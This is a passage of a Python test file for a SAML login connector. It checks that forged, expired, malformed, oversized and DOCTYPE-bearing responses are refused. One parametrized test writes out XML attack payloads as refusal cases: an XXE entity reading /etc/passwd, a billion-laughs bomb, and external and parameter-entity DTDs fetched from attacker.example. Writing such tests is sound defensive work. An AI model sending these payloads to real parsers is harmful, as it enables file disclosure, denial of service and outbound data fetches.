    request_id = new_request_id()
    xml = await peer.response(request_id)
    assert await refused(peer.connector(idp_entity_id="https://other.example/idp"), xml, request_id=request_id) == (
        "wrong_issuer"
    )


@needs_xmlsec1
async def test_expired_assertion_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id)  # pysaml2: 15 minutes of validity
    later = SamlConnector(peer.config, clock=lambda: time.time() + 3600)
    assert await refused(later, xml, request_id=request_id) == "expired"


@needs_xmlsec1
async def test_not_yet_valid_assertion_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id)
    earlier = SamlConnector(peer.config, clock=lambda: time.time() - 3600)
    assert await refused(earlier, xml, request_id=request_id) == "not_yet_valid"


@needs_xmlsec1
async def test_not_before_in_the_future_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        future = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 900))
        assertion.find("saml:Conditions", NS).set("NotBefore", future)

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "not_yet_valid"


@needs_xmlsec1
async def test_clock_skew_tolerated(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id)
    # the IdP's clock runs 60 s ahead of ours: IssueInstant and NotBefore are slightly in our future
    behind = SamlConnector(peer.config, clock=lambda: time.time() - 60)
    assert (await post(behind, xml, request_id=request_id)).issuer == IDP


@needs_xmlsec1
async def test_unknown_condition_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        etree.SubElement(assertion.find("saml:Conditions", NS), f"{{{SAML}}}Condition")

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "unknown_condition"


@needs_xmlsec1
async def test_error_status_refused(peer: Peer) -> None:
    request_id = new_request_id()
    request = await peer.request(request_id)
    xml = str(peer.server.create_error_response(request.message.id, ACS, UnknownPrincipal("no such user"))).encode()
    assert await refused(peer.connector(), xml, request_id=request_id) == "status_not_success"


# -- parsing: size, DOCTYPE, encoding (no IdP needed) ----------------------------------------------------------


RESPONSE_HEAD = f'<samlp:Response xmlns:samlp="{SAMLP}" ID="_r" Version="2.0">'.encode()


CLOSE = b"</samlp:Response>"


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + RESPONSE_HEAD + b"&x;" + CLOSE,
        b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>' + RESPONSE_HEAD + b"&lol3;" + CLOSE,
        b'<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">' + RESPONSE_HEAD + CLOSE,
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>' + RESPONSE_HEAD + CLOSE,
    ],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
async def test_doctype_refused(config: SamlConfig, document: bytes) -> None:
    assert await refused(SamlConnector(config), document, request_id="_r") == "dtd_forbidden"


async def test_doctype_hidden_in_utf16_refused(config: SamlConfig) -> None:
    document = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r []>' + RESPONSE_HEAD.decode()).encode("utf-16")
    assert await refused(SamlConnector(config), document, request_id="_r") == "bad_encoding"


async def test_oversized_base64_refused_before_decoding(config: SamlConfig) -> None:
    connector = SamlConnector(replace(config, max_response_bytes=10_000))
    params = {"SAMLResponse": "A" * 20_000}
    with pytest.raises(UpstreamRefused) as caught:
        await connector.handle_callback(CallbackInput(params=params, request_id="_r"), callback_url=ACS)
    assert caught.value.reason == "too_large"


async def test_oversized_xml_refused_before_parsing(config: SamlConfig) -> None:
    connector = SamlConnector(replace(config, max_response_bytes=10_000))
    document = RESPONSE_HEAD + b" " * 10_001 + b"</samlp:Response>"
    assert await refused(connector, document, request_id="_r") == "too_large"


async def test_not_base64_refused(config: SamlConfig) -> None:
    with pytest.raises(UpstreamRefused) as caught:
        await SamlConnector(config).handle_callback(
            CallbackInput(params={"SAMLResponse": "<samlp:Response/>"}, request_id="_r"), callback_url=ACS
        )
    assert caught.value.reason == "bad_encoding"


async def test_missing_response_refused(config: SamlConfig) -> None:
    with pytest.raises(UpstreamRefused) as caught:
        await SamlConnector(config).handle_callback(CallbackInput(params={}, request_id="_r"), callback_url=ACS)
    assert caught.value.reason == "no_response"


async def test_idp_initiated_refused_by_default_before_parsing(config: SamlConfig) -> None:
    assert await refused(SamlConnector(config), b"not even xml", request_id=None) == "unsolicited"


async def test_malformed_xml_refused(config: SamlConfig) -> None:
    assert await refused(SamlConnector(config), RESPONSE_HEAD, request_id="_r") == "malformed_xml"


async def test_other_root_element_refused(config: SamlConfig) -> None:
    document = f'<samlp:LogoutRequest xmlns:samlp="{SAMLP}" ID="_x" Version="2.0"/>'.encode()
    assert await refused(SamlConnector(config), document, request_id="_r") == "not_a_response"


async def test_callback_url_must_be_the_acs(config: SamlConfig) -> None:
    with pytest.raises(UpstreamConfigError):
        await SamlConnector(config).login_url(
            state="s", callback_url=f"{ISSUER}/broker/corp/callback", secrets=LoginSecrets("n", "v", "_r")
        )


# -- metadata --------------------------------------------------------------------------------------------------


@needs_xmlsec1
def test_parse_idp_metadata_from_pysaml2(peer: Peer, idp_keys: FixtureKeys) -> None:
    xml = create_metadata_string(None, config=peer.server.config, sign=False)
    entity_id, sso_url, certificates = parse_idp_metadata(xml)
    assert (entity_id, sso_url) == (IDP, SSO)
    assert certificates == (idp_keys.cert_pem,)


def test_parse_idp_metadata_refuses_doctype() -> None:
    with pytest.raises(UpstreamConfigError):
        parse_idp_metadata(b'<!DOCTYPE x [<!ENTITY a "b">]><md:EntityDescriptor xmlns:md="x"/>')


def test_parse_idp_metadata_without_certificate_refused() -> None:
    xml = f"""<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="{IDP}">
      <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
        <md:SingleSignOnService Binding="{BINDING_HTTP_REDIRECT}" Location="{SSO}"/>
      </md:IDPSSODescriptor></md:EntityDescriptor>""".encode()
    with pytest.raises(UpstreamConfigError):
        parse_idp_metadata(xml)


def test_sp_metadata_declares_post_acs_signed_assertions_and_encryption_key(config: SamlConfig) -> None:
    root = tree(sp_metadata(config))
    md = "urn:oasis:names:tc:SAML:2.0:metadata"
    assert root.get("entityID") == SP
    descriptor = root.find(f"{{{md}}}SPSSODescriptor")
    assert descriptor.get("WantAssertionsSigned") == "true"
    acs = descriptor.find(f"{{{md}}}AssertionConsumerService")
    assert (acs.get("Binding"), acs.get("Location")) == (BINDING_HTTP_POST, ACS)
    uses = [key.get("use") for key in descriptor.findall(f"{{{md}}}KeyDescriptor")]
    assert uses == ["encryption"]
    without_cert = tree(sp_metadata(replace(config, sp_certificate_pem=None, sp_private_key_pem=None)))
    assert without_cert.find(f".//{{{md}}}KeyDescriptor") is None
